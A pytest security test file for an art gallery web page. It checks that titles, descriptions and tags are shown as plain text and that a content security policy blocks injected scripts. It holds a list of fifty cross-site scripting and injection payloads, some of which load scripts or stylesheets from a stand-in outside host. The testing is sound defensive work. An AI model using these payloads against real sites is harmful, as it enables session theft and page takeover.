"""Nothing that is typed into a gallery runs on its page, and all of it is shown as it was typed."""

import pytest
from browser import launched_browser, watched_page
from galleries import picture, write_gallery

from artstudio.pages.gallery import clean

PAYLOADS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</textarea></select></dialog><script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT >",
    "<scr<script>ipt>alert(1)</script>",
    "<script src=//elsewhere.example/x.js></script>",
    "<script>//<![CDATA[\nalert(1)//]]></script>",
    "<!--<script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" onload="alert(1)',
    '" onfocus=alert(1) autofocus tabindex=0 x="',
    "' onmouseover='alert(1)",
    "` onerror=`alert(1)",
    "x onerror=alert(1) y=",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext></p><img src=x onerror=alert(1)></mtext></math>",
    "<details open ontoggle=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1) autofocus>press</a>",
    "javascript:alert(1)",
    "JaVaScRiPt&colon;alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "<base href=//elsewhere.example/>",
    "<meta http-equiv=refresh content='0;url=//elsewhere.example/'>",
    "<link rel=stylesheet href=//elsewhere.example/x.css>",
    "<style>@import '//elsewhere.example/x.css';*{display:none}</style>",
    "</style><body style=background:url(//elsewhere.example/x)>",
    "x;background:url(//elsewhere.example/x);}*{display:none",
    "<form action=//elsewhere.example/><button autofocus>press</button>",
    "{{ 7*7 }}{% raw %}{{ config }}{# gone #}",
    "${alert(1)}`${alert(1)}`#{alert(1)}",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#x3c;img onerror=alert(1)&#62;",
    "\\u003cscript\\u003ealert(1)\\x3c/script\\x3e",
    "\u2028alert(1)\u2029';alert(1);//\\';alert(1)//",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e \u02b9\u02ba\ufe64",
    "\u202e<gnp.trats>\u202c\u2066\u200f\u200b\ufeff left again",
    "a\0b\0<scr\0ipt>alert(1)</scr\0ipt>\x1b[31m\r\x85\ud800",
)


@pytest.fixture(scope="module")
def browser():
    with launched_browser() as browser:
        yield browser


def test_no_text_runs_or_is_shown_as_anything_but_itself(browser, tmp_path):
    assert len(set(PAYLOADS)) == 50
    made, failed = (
        [
            picture(
                f"{status}{index} {text}", title=text, description=text, tags=(text, "x"), collection=text,
                command=text, reason=text, status=status, digest=str(index) + text, width=64, height=36,
                file=f"{index}{clean(text).replace('/', '∕')[:60]}.png",
            )
            for index, text in enumerate(PAYLOADS)
        ]
        for status in ("ok", "failed")
    )  # fmt: skip
    url = write_gallery(tmp_path, [*made, *failed], title=" ".join(PAYLOADS))
    with watched_page(browser, url) as watched:
        page, shown = watched.page, [clean(text) for text in PAYLOADS]
        assert page.locator("h1").text_content() == " ".join(shown)
        assert page.locator(".label p:first-child").all_text_contents() == shown * 2
        assert page.locator(".failed p").all_text_contents() == shown
        assert page.locator("select[name=tag] option").count() == len(PAYLOADS) + 2
        page.locator(".card a").first.click()
        for index, text in enumerate(shown):
            wait = "at => document.getElementById('position').textContent === `${at} of 50`"
            page.wait_for_function(wait, arg=index + 1)
            read = "ids => ids.map(id => document.getElementById(id).textContent)"
            texts = page.evaluate(read, ["picture-title", "description", "command"])
            assert texts == [text] * 3
            assert text in page.locator("#facts").text_content()
            page.wait_for_function("() => document.getElementById('picture').naturalWidth === 64")
            page.keyboard.press("ArrowRight")
        page.keyboard.press("Escape")
        for index in (12, 46, 49):
            page.get_by_role("combobox", name="Tag").select_option(shown[index])
            assert page.locator(".card:visible").count() == 2
        assert watched.problems() == []
        assert {request.rpartition("/")[0] for request in watched.requests} <= {
            tmp_path.as_uri(),
            (tmp_path / "thumbs").as_uri(),
        }


@pytest.mark.sweep
def test_the_policy_stops_what_it_should(browser, tmp_path):
    with watched_page(browser, write_gallery(tmp_path, [picture()])) as watched:
        watched.page.evaluate("""() => {
            const script = document.createElement("script");
            const image = document.createElement("img");
            image.src = "https://elsewhere.example/x.png";
            document.body.append(image);
            try { script.textContent = "alert(1)"; document.body.append(script); } catch {}
            try { document.body.innerHTML = "<b>"; } catch {}
        }""")
        watched.page.wait_for_function("() => window.violations.length >= 3")
        found = watched.page.evaluate("window.violations.map(text => text.split(' ')[0])")
        assert {"img-src", "require-trusted-types-for"} <= set(found)
        assert watched.page.evaluate("window.ran") == []
